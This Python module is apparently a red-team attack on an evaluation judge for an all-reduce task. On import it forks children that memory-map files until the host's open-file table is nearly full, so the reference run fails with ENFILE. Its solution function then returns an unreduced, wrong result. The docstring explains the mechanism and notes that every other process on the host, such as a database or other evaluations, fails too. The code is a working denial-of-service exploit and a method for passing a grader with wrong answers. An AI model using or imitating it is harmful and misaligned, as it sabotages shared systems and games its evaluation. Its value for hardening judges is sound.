"""Attack (all-reduce): take every open file of the host while frozen, so that the reference
cannot open one.

The kernel keeps one table of open files for the whole host (`fs.file-max`: 2,466,177 here),
whatever the namespace, and only a process with CAP_SYS_ADMIN over the host may open past it. A
file mapped into memory stays open after its descriptor is closed, so the per-process limit on
descriptors (4096) does not bound what a process holds: each mapping holds a file, up to
`vm.max_map_count` (65,530) a process. At import each rank starts a helper that forks 20
children; each opens a small file of the side's own disk 62,000 times, maps one page of each and
closes the descriptor, until the host's table is full but for 200 files (the side's own init
lists /proc every 0.1 s and died of ENFILE when none was left) (about 2.5 million files in a dozen
seconds, 1 GiB of kernel memory, charged to the side's own memory cap, which holds it). The
ranks wait until the table is full, then end their start-up; the judge freezes the side and
starts the reference, whose sandbox cannot open what it needs. The answers are wrong (its own
share, never reduced).

Before the fix (sandbox on, 2026-11-29): see docs/judge.md, ninth pass. Host-wide while it
holds: every process without that capability (a database, another evaluation's sides) gets
ENFILE."""

import os
import subprocess
import sys
import time

CHILDREN = 20  # per rank
MAPS = 62_000  # per child, under vm.max_map_count
LEAVE = 200  # files left free: the side's own init lists /proc every 0.1 s, and dies of ENFILE

FILL = f"""
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
path = "/tmp/held-%d" % os.getpid()
with open(path, "wb") as handle:
    handle.write(b"\\0" * 4096)

def free():
    with open("/proc/sys/fs/file-nr") as handle:
        used, _, most = (int(v) for v in handle.read().split())
    return most - used

def hold(n):
    for _ in range(n):
        fd = os.open(path, os.O_RDONLY)
        libc.mmap(None, 4096, 1, 1, fd, 0)
        os.close(fd)

for child in range({CHILDREN}):
    if os.fork() == 0:
        held = 0
        while held < {MAPS}:
            try:
                # In steps that together cannot overshoot: the children share what is left.
                step = min({MAPS} - held, (free() - {LEAVE}) // (2 * {CHILDREN} * 2))
                if step < 1:
                    break
                hold(step)
                held += step
            except OSError:
                break
        while True:
            signal.pause()
while True:
    signal.pause()
"""


def _free():
    try:
        with open("/proc/sys/fs/file-nr") as handle:
            used, _, most = (int(v) for v in handle.read().split())
    except OSError:
        return 0  # ENFILE: full
    return most - used


subprocess.Popen([sys.executable, "-S", "-c", FILL])
_until = time.monotonic() + 120
_last, _still = _free(), 0
while time.monotonic() < _until and _still < 10:  # until the table stops filling
    time.sleep(0.2)
    _now = _free()
    _still = _still + 1 if _now >= _last - 10 else 0
    _last = _now


def solution(x, *, group):
    return x.clone()  # its own share only: wrong on every call
